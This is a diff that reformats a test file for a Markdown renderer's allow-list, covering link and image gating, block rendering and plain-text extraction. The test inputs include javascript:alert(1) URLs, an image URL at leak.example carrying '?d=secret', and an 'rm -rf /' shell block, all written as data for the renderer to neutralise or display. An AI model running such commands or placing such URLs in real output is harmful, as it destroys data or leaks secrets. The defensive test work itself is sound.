@@ -36,7 +36,10 @@ describe('the token map (allow-list)', () => {
       kind: 'inline',
       children: [{ type: 'image', alt: 'the chart', host: 'leak.example', url: 'https://leak.example/p.png?d=secret' }],
     })
-    expect(renderInline('![x](javascript:alert(1))')).toEqual({ kind: 'inline', children: [text('![x](javascript:alert(1))')] })
+    expect(renderInline('![x](javascript:alert(1))')).toEqual({
+      kind: 'inline',
+      children: [text('![x](javascript:alert(1))')],
+    })
   })
 
   it('inline fields keep line breaks, indentation and line-start #, 1. and *', () => {
@@ -52,7 +55,11 @@ describe('the token map (allow-list)', () => {
   })
 
   it('block: headings, lists, tables, fenced code, quotes, rules', () => {
-    expect(renderBlocks('## Plan\n\n1. one\n2. two\n\n| a | b |\n|:-:|--|\n| 1 | 2 |\n\n```sh\nrm -rf /\n```\n\n> note\n\n***')).toEqual({
+    expect(
+      renderBlocks(
+        '## Plan\n\n1. one\n2. two\n\n| a | b |\n|:-:|--|\n| 1 | 2 |\n\n```sh\nrm -rf /\n```\n\n> note\n\n***',
+      ),
+    ).toEqual({
       kind: 'blocks',
       blocks: [
         { type: 'heading', level: 2, children: [text('Plan')] },
@@ -60,12 +67,23 @@ describe('the token map (allow-list)', () => {
           type: 'list',
           ordered: true,
           start: 1,
-          items: [[{ type: 'paragraph', tight: true, children: [text('one')] }], [{ type: 'paragraph', tight: true, children: [text('two')] }]],
+          items: [
+            [{ type: 'paragraph', tight: true, children: [text('one')] }],
+            [{ type: 'paragraph', tight: true, children: [text('two')] }],
+          ],
         },
         {
           type: 'table',
-          head: [{ align: 'center', children: [text('a')] }, { align: undefined, children: [text('b')] }],
-          rows: [[{ align: 'center', children: [text('1')] }, { align: undefined, children: [text('2')] }]],
+          head: [
+            { align: 'center', children: [text('a')] },
+            { align: undefined, children: [text('b')] },
+          ],
+          rows: [
+            [
+              { align: 'center', children: [text('1')] },
+              { align: undefined, children: [text('2')] },
+            ],
+          ],
         },
         { type: 'code-block', text: 'rm -rf /\n', info: 'sh' },
         { type: 'quote', children: [{ type: 'paragraph', tight: false, children: [text('note')] }] },
@@ -77,7 +95,17 @@ describe('the token map (allow-list)', () => {
   it('reference links resolve through the gate; their definitions are not counted as dropped', () => {
     expect(renderBlocks('See [the docs][d].\n\n[d]: https://example.com "Docs"')).toEqual({
       kind: 'blocks',
-      blocks: [{ type: 'paragraph', tight: false, children: [text('See '), { type: 'link', href: 'https://example.com/', children: [text('the docs')] }, text('.')] }],
+      blocks: [
+        {
+          type: 'paragraph',
+          tight: false,
+          children: [
+            text('See '),
+            { type: 'link', href: 'https://example.com/', children: [text('the docs')] },
+            text('.'),
+          ],
+        },
+      ],
     })
     expect(renderBlocks('[x][d]\n\n[d]: javascript:alert(1)')).toEqual({
       kind: 'blocks',
@@ -133,6 +161,8 @@ describe('depth and drop detection (plain monospace fallback, text never lost)',
 
 describe('inlinePlainText (notifications and the tray)', () => {
   it('is the text without Markdown syntax', () => {
-    expect(inlinePlainText('Deploy `main` to **prod**? See [runbook](https://x.y)')).toBe('Deploy main to prod? See runbook')
+    expect(inlinePlainText('Deploy `main` to **prod**? See [runbook](https://x.y)')).toBe(
+      'Deploy main to prod? See runbook',
+    )
   })
 })
